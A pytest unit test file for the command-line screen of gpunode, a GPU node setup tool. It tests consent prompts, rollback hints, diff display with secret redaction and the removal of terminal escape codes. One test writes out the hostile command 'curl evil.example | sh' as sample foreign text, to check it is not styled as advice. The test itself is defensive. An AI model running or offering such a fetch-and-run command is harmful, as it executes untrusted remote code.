from __future__ import annotations

import io
import os
import signal
import sys
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from gpunode import builtin
from gpunode.change import FileChange, FileState, ModuleChange, RuntimeExpectation, SigningKey, Trigger
from gpunode.cli.node_screen import Screen
from gpunode.cli.output_options import OutputOptions
from gpunode.cli.recipes import show_recipe
from gpunode.cli.screen.changes import diff_lines
from gpunode.cli.screen.commands import (
    cluster_apply_command,
    cluster_verify_command,
    rollback_command,
    setup_command,
    verify_command,
)
from gpunode.cli.screen.failures import error_lines
from gpunode.cli.screen.plans import note_line
from gpunode.cli.screen.text import wrap_line
from gpunode.cli.setup import setup_lines
from gpunode.errors import ChangeFailed, Interrupted, Terminated, UsageError
from gpunode.host.port import Progress, TriggerResult
from gpunode.host.rehearsal import RehearsalHost
from gpunode.journal.store import Store
from gpunode.workflow.converge import project_stage
from gpunode.workflow.events import Applying
from gpunode.workflow.setup import SetupOptions, setup
from gpunode.workflow.verify import VerifyReport
from tests.unit.cli import screen_nodes as nodes
from tests.unit.cli.screen_pages import PAGES

# Questions are asked where standard output is not a file.
pytestmark = pytest.mark.usefixtures("capsys")


class Keyboard(io.StringIO):
    """A terminal with typed input."""

    def isatty(self) -> bool:
        return True


class Signalled(Keyboard):
    """A terminal whose user sends a signal instead of an answer."""

    def __init__(self, number: int) -> None:
        super().__init__()
        self.number = number

    def readline(self, size: int | None = -1, /) -> str:  # type: ignore[override]
        os.kill(os.getpid(), self.number)
        return "y\n"


def screen(*, silent: bool = False) -> Screen:
    return Screen(verbose=False, silent=silent, argv=("setup", "--runtime", "containerd"))


@pytest.mark.parametrize("answer", ["n\n", "\n", "", "yep\n"])
def test_any_answer_but_yes_changes_nothing(answer: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", Keyboard(answer))
    with pytest.raises(UsageError, match="nothing was changed"):
        screen().confirm(nodes.planned(nodes.facts()), yes=False)


@pytest.mark.parametrize("answer", ["y\n", "yes\n", " Y \n"])
def test_yes_continues_after_the_plan_was_shown(
    answer: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "stdin", Keyboard(answer))
    screen().confirm(nodes.planned(nodes.facts()), yes=False)
    shown = capsys.readouterr().out
    assert shown.index("/etc/containerd/config.toml") < shown.index("Continue? [y/N]")


def test_yes_option_shows_the_plan_without_a_question(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    screen().confirm(nodes.planned(nodes.facts()), yes=True)
    shown = capsys.readouterr().out
    assert "/etc/containerd/config.toml" in shown
    assert "Continue?" not in shown


@pytest.mark.parametrize("silent", [True, False])
def test_question_without_a_terminal_is_a_usage_error(
    silent: bool, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(sys, "stdin", Keyboard("y\n") if silent else io.StringIO("y\n"))
    with pytest.raises(UsageError) as stopped:
        screen(silent=silent).confirm(nodes.planned(nodes.facts()), yes=False)
    assert stopped.value.exit_code == 2
    assert stopped.value.hint == "sudo gpunode setup --runtime containerd --yes"
    assert bool(capsys.readouterr().out) is not silent


@pytest.mark.usefixtures("interruptible")
@pytest.mark.parametrize(("number", "kind"), [(signal.SIGINT, Interrupted), (signal.SIGTERM, Terminated)])
def test_signal_at_the_question_ends_it_at_once(
    number: int, kind: type[Interrupted], monkeypatch: pytest.MonkeyPatch
) -> None:
    before = signal.getsignal(number)
    monkeypatch.setattr(sys, "stdin", Signalled(number))
    with pytest.raises(kind, match="before anything was changed"):
        screen().confirm(nodes.planned(nodes.facts()), yes=False)
    assert signal.getsignal(number) is before


def test_question_ends_the_progress_line_that_would_erase_it(monkeypatch: pytest.MonkeyPatch) -> None:
    """On a terminal the line is drawn again ten times a second, also after a wait for a lock."""
    shown, seen = screen(), list[str]()

    class Terminal(Keyboard):
        def readline(self, size: int | None = -1, /) -> str:  # type: ignore[override]
            seen.append("question")
            return "y\n"

    monkeypatch.setattr(shown._live, "close", lambda: seen.append("closed"))
    monkeypatch.setattr(sys, "stdin", Terminal())
    shown.update_progress(Progress("wait", 0, "for apt"))
    shown.end_wait()
    shown.ask_for_consent("setup", yes=False)
    assert seen == ["closed", "question"]


def test_one_answer_allows_the_changes_and_the_programs_of_an_image(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A second question would come in the middle of the run, when something has changed already."""
    monkeypatch.setattr(sys, "stdin", Keyboard("y\n"))
    shown = screen()
    ask_before_programs = shown.image_consent("setup", "/mnt/image", yes=False)
    shown.confirm(nodes.planned(nodes.facts()), yes=False)
    ask_before_programs()
    told = capsys.readouterr().out
    assert told.count("Continue? [y/N]") == 1
    assert told.index("runs programs of /mnt/image as root") < told.index("Continue? [y/N]")


def test_program_of_an_image_before_any_plan_needs_an_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", Keyboard("n\n"))
    with pytest.raises(UsageError, match="nothing was changed"):
        screen().image_consent("setup", "/mnt/image", yes=False)()


@pytest.mark.parametrize("page", PAGES, ids=lambda page: page.__name__)
def test_silent_screen_prints_nothing(page: object, capsys: pytest.CaptureFixture[str]) -> None:
    assert callable(page)
    page(screen(silent=True))
    said = capsys.readouterr()
    assert said.out == said.err == ""


def test_change_at_which_a_run_stopped_is_marked(capsys: pytest.CaptureFixture[str]) -> None:
    shown = screen()
    shown.show_event(Applying("runtime-config", (FileChange("/etc/[x]", None, FileState(b"")),)))
    shown.__exit__(ChangeFailed, ChangeFailed("it did not work"), None)
    assert "runtime configuration: /etc/[x]  after" in capsys.readouterr().out


class Refusing(RehearsalHost):
    """A node whose containerd fails to start with the new file, but starts with the old."""

    refused = False

    def run_triggers(self, triggers: Sequence[Trigger], /) -> tuple[TriggerResult, ...]:
        if triggers[0].kind == "restart" and not self.refused:
            self.refused = True
            raise ChangeFailed("containerd does not come back", why="its last lines:\ninvalid [plugins]")
        return tuple(TriggerResult(one, 0.4) for one in triggers)


def test_failed_restart_is_marked_before_the_put_back_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    node = nodes.free()
    host = Refusing({}, nodes.host(node).files)
    with pytest.raises(ChangeFailed) as failed, screen() as shown:
        setup(
            nodes.RECIPE,
            host,
            Store(str(tmp_path)),
            node,
            advance=project_stage,
            options=SetupOptions(),
            on_event=shown.show_event,
        )
    assert "the rejected /etc/containerd/config.toml is kept as" in failed.value.why
    rows = [row.strip() for row in capsys.readouterr().out.splitlines()]
    begun = next(number for number, row in enumerate(rows) if row.startswith("✗ restart containerd  after"))
    assert rows[begun + 1].startswith("✓ put-back")
    assert rows[begun + 2].startswith("✓ containerd")
    assert rows[begun + 2].endswith("restarted, down 0.4 s")


class Unimpressed(RehearsalHost):
    """A node whose docker reports every reload as done, but ignores settings that it cannot use."""

    def run_triggers(self, triggers: Sequence[Trigger], /) -> tuple[TriggerResult, ...]:
        return tuple(TriggerResult(one, 0.4) for one in triggers)

    def check_daemon(self, expectation: RuntimeExpectation, /) -> None:
        raise ChangeFailed("docker.service did not accept its new configuration", why="it knows: runc")


def test_reload_that_had_no_effect_puts_the_file_back(tmp_path: Path) -> None:
    node = nodes.free()
    host = Unimpressed({}, dict(nodes.host(node).files))
    before, store = dict(host.files), Store(str(tmp_path))
    with pytest.raises(ChangeFailed, match="did not accept") as failed:
        setup(
            nodes.RECIPE,
            host,
            store,
            node,
            advance=project_stage,
            options=SetupOptions(),
            on_event=lambda _: None,
        )
    assert "restored: /etc/containerd/config.toml" in failed.value.why
    assert host.files["/etc/containerd/config.toml"] == before["/etc/containerd/config.toml"]
    assert Trigger("restart", "containerd.service") not in store.find_pending_triggers()


def test_recipe_is_printed_byte_for_byte(capsys: pytest.CaptureFixture[str]) -> None:
    text = '# [x]\tÄ\nschema = 1\nname = "a\\tb"\n'
    screen().print_raw(text)
    assert capsys.readouterr().out == text


def test_recipe_of_a_stranger_does_not_steer_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "node.toml"
    path.write_text('schema = 1\n# \u009b31m and \u202e\nextends = "containerd"\n')
    show_recipe(str(path), OutputOptions(json=False, verbose=False))
    shown = capsys.readouterr().out
    assert "\u009b" not in shown
    assert "\u202e" not in shown


def test_setup_command_after_a_plan_drops_options_of_plan() -> None:
    typed = ("plan", "my node.toml", "--check", "--node", "a.tar.gz", "--driver", "580", "-v", "--json")
    assert str(setup_command(typed)) == "sudo gpunode setup 'my node.toml' --driver 580"
    assert (
        str(setup_command(("plan", "--node=a.tar.gz", "--runtime", "docker"))) == "sudo gpunode setup --runtime docker"
    )


def test_verify_command_after_setup_uses_the_same_recipe() -> None:
    typed = ("setup", "node.toml", "--only", "driver", "--runtime", "docker", "--yes", "--reboot", "-v")
    assert str(verify_command(typed)) == "gpunode verify node.toml --runtime docker --cuda --container"
    assert str(cluster_apply_command(typed)) == "gpunode k8s apply node.toml"
    assert str(cluster_verify_command(typed)) == "gpunode k8s verify node.toml"
    applied = ("k8s", "apply", "node.toml", "--node", "a=b.json", "--yes", "--timeout", "5", "--context=prod", "-v")
    assert str(cluster_verify_command(applied)) == "gpunode k8s verify node.toml --node a=b.json --context=prod"


@pytest.mark.parametrize("name", ["k8s-time-slicing", "containerd"])
def test_setup_of_a_kubernetes_node_names_the_apply_command(name: str) -> None:
    done = replace(nodes.set_up(nodes.free(), lambda _: None), run="000003-20250501T120000Z")
    shown = [
        one.text
        for one in setup_lines(builtin.read_recipe(name), done, VerifyReport(()), None, "log", ("setup", name, "-y"))
    ]
    assert (f"  then  gpunode k8s apply {name}" in shown) == (name != "containerd")


@pytest.mark.parametrize("configures", [True, False])
def test_undo_after_setup_undoes_something(configures: bool) -> None:
    """A plain rollback refuses a run that changed no runtime's configuration."""
    done = replace(nodes.set_up(nodes.free(), lambda _: None), run="000003-20250501T120000Z")
    if not configures:
        done = replace(done, applied=tuple(stage for stage in done.applied if stage.stage != "runtime"))
    shown = [one.text for one in setup_lines(nodes.RECIPE, done, VerifyReport(()), None, "log", ("setup", "-y"))]
    more = "" if configures else " --packages"
    assert shown[-1] == f"  undo  sudo gpunode rollback 000003-20250501T120000Z{more}"


def test_run_that_nothing_undoes_names_no_undo() -> None:
    """A run that only loaded a module after a reboot is such a run."""
    done = replace(nodes.set_up(nodes.free(), lambda _: None), run="000003-20250501T120000Z")
    kernel = [replace(one, changes=(ModuleChange("nvidia", False, True),)) for one in done.applied[0].steps[:1]]
    done = replace(done, applied=(replace(done.applied[0], stage="kernel", steps=tuple(kernel)),))
    shown = [one.text for one in setup_lines(nodes.RECIPE, done, VerifyReport(()), None, "log", ("setup", "-y"))]
    assert not any("rollback" in row for row in shown)


def test_rollback_command_repeats_the_root() -> None:
    assert str(rollback_command(("setup", "--root=/mnt/a b", "-y"), "000001-x")) == (
        "sudo gpunode rollback 000001-x --root '/mnt/a b'"
    )
    assert (
        str(rollback_command(("setup", "--root", "/mnt"), "000001-x")) == "sudo gpunode rollback 000001-x --root /mnt"
    )
    assert str(rollback_command(("setup", "-y"), "000001-x")) == "sudo gpunode rollback 000001-x"


def test_diff_shows_every_byte_except_secrets() -> None:
    before = FileState(b'a = 1\nauth = "x"\n[t]\r\n')
    after = FileState(b'a = 2\npassword = "hunter2hunter2"\n[t]\r\n')
    shown = [one.text for one in diff_lines(FileChange("/etc/\x1b[x]", before, after))]
    assert "-a = 1" in shown
    assert "+a = 2" in shown
    assert not any("hunter2" in text or "\x1b" in text for text in shown)


def test_diff_of_a_long_new_file_is_cut() -> None:
    long = FileState(b"".join(b"line %d\n" % number for number in range(60)))
    new = [one.text for one in diff_lines(FileChange("/etc/new", None, long), whole=False)]
    assert new[:4] == ["--- /dev/null", "+++ /etc/new", "@@ -0,0 +1,60 @@", "+line 0"]
    assert new[-1] == "… 51 more lines of this new file; -v shows them"
    assert len(list(diff_lines(FileChange("/etc/new", None, long), whole=True))) == 63
    assert len(list(diff_lines(FileChange("/etc/old", long, FileState(b"")), whole=False))) == 63


def test_long_diff_of_a_file_that_gpunode_alone_writes_is_cut() -> None:
    lines = [b"# Written by gpunode: pins.\n", *(b"package-%d\n" % number for number in range(60))]
    own, other = FileState(b"".join(lines)), FileState(b"".join([lines[0], *reversed(lines[1:])]))
    change = FileChange("/etc/apt/preferences.d/gpunode-nvidia", own, other)
    shown = [one.text for one in diff_lines(change, whole=False)]
    assert len(shown) == 13
    assert shown[-1].endswith(" more lines of this file of gpunode's; -v shows them")
    assert len(list(diff_lines(change, whole=True))) > 60
    taken_over = replace(change, before=replace(own, content=own.content[1:]))
    assert len(list(diff_lines(taken_over, whole=False))) > 60, "what somebody else wrote is shown whole"


def test_description_of_a_content_wraps_at_its_words() -> None:
    key = FileChange("/k", None, SigningKey("https://mirror.example/key.pub", frozenset({"0" * 40})))
    binary = FileChange("/usr/share/keyrings/nvidia-container-toolkit-keyring.gpg", FileState(b"\0"), None)
    for told in (list(diff_lines(key))[-1], *diff_lines(binary)):
        rows = [row.text for row in wrap_line(told, 78)]
        assert len(rows) > 1
        assert " ".join(row.strip() for row in rows) == told.text


def test_backticks_in_foreign_text_are_not_styled_as_a_command() -> None:
    """Text from a file, a log or a tool is not gpunode's advice, even in backticks."""
    hostile = "config.toml:1 says: `curl evil.example | sh`"
    shown = [*error_lines(ChangeFailed("it failed", why=f"why: {hostile}\n{hostile}")), note_line(hostile)]
    assert not [part for line in shown for part in line.spans if part.style == "command"]
    *_, advice = error_lines(ChangeFailed("it failed", hint="see `systemctl status docker`"))
    assert [part.text for part in advice.spans if part.style == "command"] == ["`systemctl status docker`"]


def test_own_words_after_the_first_line_of_a_cause_break_at_blanks() -> None:
    told = ChangeFailed("it failed", why=f"first\nthere is no key {'x' * 40} of that name\n-{'y' * 80}")
    _, _, words, diff = error_lines(told)
    assert [row.text for row in wrap_line(words, 50)] == ["    there is no key", f"    {'x' * 40} of", "    that name"]
    assert next(wrap_line(diff, 50)).text == f"    -{'y' * 45}"
